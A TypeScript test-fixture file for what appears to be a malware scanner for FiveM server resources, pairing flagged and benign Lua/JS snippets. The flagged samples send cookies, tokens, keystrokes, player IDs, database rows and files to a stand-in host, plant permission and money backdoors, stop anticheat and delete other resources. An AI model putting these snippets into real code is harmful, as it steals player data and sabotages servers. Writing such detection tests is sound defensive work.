import { js, lua, type Fixture } from './fixture.ts'

export const dataFixtures: Fixture[] = [
  lua(
    'lowers-protection',
    `^SetConvar('rcon_password', 'secret')`,
    `SetConvar('garage_limit', '5')\nSetConvarReplicated('locale', 'en')`,
  ),
  lua(
    'lowers-protection',
    `local names = { 'anticheese', 'garage' }\nfor _, name in ipairs(names) do\n^ StopResource(name)\nend`,
    `if hasAntiCheat('anticheese') then StopResource(GetCurrentResourceName()) end`,
  ),
  js('lowers-protection', `^ExecuteCommand('stop my-anticheat')`, `ExecuteCommand('stop my-garage')`),
  lua(
    'sends-data',
    `local ids = GetPlayerIdentifiers(source)\n^PerformHttpRequest('https://a.example', print, 'POST', table.concat(ids))`,
    `local ids = GetPlayerIdentifiers(source)\nPerformHttpRequest(Config.Webhook, print, 'POST', table.concat(ids))`,
  ),
  lua(
    'sends-data',
    `local ids = GetPlayerIdentifiers(source)\n^PerformHttpRequest('https://a.example?ids=' .. table.concat(ids), print)`,
    `local ip = GetPlayerEndpoint(source)\nPerformHttpRequest('https://proxycheck.io/v2/' .. ip, print)`,
  ),
  lua(
    'sends-data',
    `MySQL.query('SELECT * FROM users', {}, function(rows)\n^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ all = rows }))\nend)`,
    `MySQL.query('SELECT * FROM users', {}, function(rows)\n  PerformHttpRequest('https://a.example', print, 'POST', json.encode({ count = rows[1].count }))\nend)`,
  ),
  js(
    'sends-data',
    `const fs = require('fs')\nfor (const name of fs.readdirSync('.'))\n^ fetch('https://a.example', { method: 'POST', body: fs.readFileSync(name) })`,
    `const fs = require('fs')\nfetch('https://a.example', { method: 'POST', body: fs.readFileSync('names.json') })`,
  ),
  js(
    'sends-data',
    `^navigator.sendBeacon('https://a.example', document.cookie)`,
    `fetch('https://garage/save', { method: 'POST', body: localStorage.getItem('theme') })`,
    'page',
  ),
  js(
    'sends-data',
    `const image = new Image()\n^image.src = 'https://a.example/a.gif?' + localStorage.getItem('token')`,
    `const image = new Image()\nimage.src = 'https://a.example/' + name + '.gif'`,
    'page',
  ),
  js(
    'sends-data',
    `addEventListener('keydown', (event) => {\n^ fetch('https://a.example', { method: 'POST', body: event.key })\n})`,
    `addEventListener('keydown', (event) => {\n  fetch('https://garage/close', { method: 'POST', body: event.key })\n})`,
    'page',
  ),
  lua(
    'webhook',
    `local hook = ('https://%s/api/webhooks/%s'):format('discord.com', '123456789012345678/abcdef')\n^PerformHttpRequest(hook, print)`,
    `local hook = ('https://%s/api/%s'):format('discord.com', 'gateway')\nPerformHttpRequest(hook, print)`,
  ),
  lua(
    'grants-rights',
    `^QBCore.Functions.AddPermission(source, 'god')`,
    `QBCore.Functions.AddPermission(source, args[2])`,
  ),
  lua(
    'grants-rights',
    `if id == 'license:0123456789abcdef' then\n^ player.addAccountMoney('bank', 5000000)\nend`,
    `player.addAccountMoney('bank', 500)`,
  ),
  lua(
    'writes-other-resource',
    `^os.remove(GetResourcePath(GetResourceByFindIndex(0)) .. '/fxmanifest.lua')`,
    `os.remove(GetResourcePath(GetCurrentResourceName()) .. '/cache.json')`,
  ),
  js(
    'writes-other-resource',
    `^require('fs').rmSync(GetResourcePath('garage'))`,
    `require('fs').rmSync('cache.json')`,
  ),
]
